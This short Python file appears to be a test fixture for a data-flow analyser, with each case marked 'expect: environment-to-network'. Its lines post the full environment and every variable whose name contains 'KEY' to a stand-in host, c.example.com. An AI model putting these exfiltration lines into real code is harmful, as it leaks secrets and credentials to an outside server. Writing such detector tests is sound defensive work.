import json
import os
import requests

# expect: environment-to-network
requests.post("https://c.example.com", json=dict(os.environ))
data = json.dumps({"host": "a", "env": dict(os.environ.items())})
# expect: environment-to-network
requests.post("https://c.example.com", data=data)
secrets = {name: value for name, value in os.environ.items() if "KEY" in name}


def send(body):
    # expect: environment-to-network
    requests.post("https://c.example.com", json=body)


send(secrets)
